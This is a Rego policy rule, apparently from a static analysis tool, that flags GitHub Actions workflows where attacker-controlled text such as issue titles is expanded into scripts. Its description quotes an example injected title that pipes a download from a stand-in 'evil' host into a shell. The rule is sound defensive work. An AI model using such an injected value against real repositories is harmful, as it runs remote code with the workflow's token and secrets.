# METADATA
# title: Attacker-controlled text is expanded into a script
# description: |
#   ${{ }} is substituted into the script before the shell (or github-script) runs it. An
#   issue title, pull request branch name or comment body is written by whoever opens it,
#   so a title like `"; curl evil | sh; "` runs with the job's token and secrets.
# related_resources:
#   - https://docs.github.com/actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
# custom:
#   id: gha-template-injection
#   family: workflow
#   severity: high
#   fix: 'Pass the value through an environment variable and quote it in the script: "env: {TITLE: ${{ github.event.issue.title }}}" then run: echo "$TITLE".'
#   types: [github.job, github.action]
package gatepost.rules.gha_template_injection

import data.gatepost.lib.gha_script

deny contains finding if {
	some x in data.gatepost.lib.gha_script.expansions
	some c in x.expression.contexts
	gha_script.attacker_controlled(c.path)
	finding := {
		"address": x.r.address,
		"pointer": x.pointer,
		"file": x.r.file,
		"line": c.line,
		"column": c.column,
		"fingerprint": sprintf("%s|%s|%s", [x.r.address, x.pointer, c.path]),
		"message": sprintf("%s is expanded into %s; whoever opens the issue, pull request or comment controls it", [c.path, x.sink]),
	}
}
